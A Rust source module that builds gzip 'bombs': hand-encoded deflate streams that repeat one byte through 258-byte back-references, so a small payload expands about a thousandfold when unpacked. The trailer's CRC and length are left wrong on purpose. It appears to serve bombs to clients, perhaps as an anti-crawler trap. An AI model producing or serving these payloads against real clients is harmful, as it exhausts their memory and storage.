//! Bytes in the form of gzip (RFC 1952), packed just enough for bombs.

/// The longest bomb, packed, is of this size; no client takes so much.
const CAP: usize = 64 << 20;

/// The begin as it is, then a block over and over, packed about a thousandfold.
pub(crate) fn packed(begin: &[u8], repeated: Option<(&[u8], usize)>) -> Vec<u8> {
    let (block, times) = repeated.unwrap_or_default();
    let mut bits = Bits {
        bytes: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255],
        held: 0,
        count: 0,
    };
    // One block of fixed codes (RFC 1951, 3.2.6), and the last one.
    bits.low_first(0b011, 3);
    let (mut length, mut crc) = (0_usize, !0);
    let mut literally = |bits: &mut Bits, bytes: &[u8]| {
        for byte in bytes {
            bits.literal(*byte);
            crc = crc32(crc, *byte);
        }
        length = length.wrapping_add(bytes.len());
    };
    literally(&mut bits, begin);
    match block.first() {
        // One character over and over. Nobody unpacks so much as to come to the sum at the end.
        Some(first) if block.iter().all(|byte| byte == first) && times > 0 => {
            bits.literal(*first);
            for _ in 0..block.len().saturating_mul(times) / 258 {
                if bits.bytes.len() > CAP {
                    break;
                }
                bits.copy_258_from_1();
            }
        }
        Some(_) => (0..times.min(CAP / block.len())).for_each(|_| literally(&mut bits, block)),
        None => {}
    }
    // The code that ends a block, and zeros to the end of the byte.
    bits.low_first(0, 7);
    bits.low_first(0, 7);
    bits.bytes.extend((!crc).to_le_bytes());
    bits.bytes.extend((length as u32).to_le_bytes());
    bits.bytes
}

struct Bits {
    bytes: Vec<u8>,
    held: u32,
    count: u32,
}

impl Bits {
    fn low_first(&mut self, value: u32, bits: u32) {
        self.held |= value << self.count;
        self.count += bits;
        while self.count >= 8 {
            self.bytes.push(self.held as u8);
            self.held >>= 8;
            self.count -= 8;
        }
    }

    /// Codes are packed from their highest bit on.
    fn high_first(&mut self, code: u32, bits: u32) {
        self.low_first(code.reverse_bits() >> (32 - bits), bits);
    }

    fn literal(&mut self, byte: u8) {
        match byte {
            0..=143 => self.high_first(0x30 + u32::from(byte), 8),
            144.. => self.high_first(0x190 + u32::from(byte) - 144, 9),
        }
    }

    /// 258 bytes like the one before.
    fn copy_258_from_1(&mut self) {
        self.high_first(0b1100_0101, 8);
        self.high_first(0, 5);
    }
}

fn crc32(crc: u32, byte: u8) -> u32 {
    (0..8).fold(crc ^ u32::from(byte), |crc, _| {
        (crc >> 1) ^ (0xedb8_8320 * (crc & 1))
    })
}
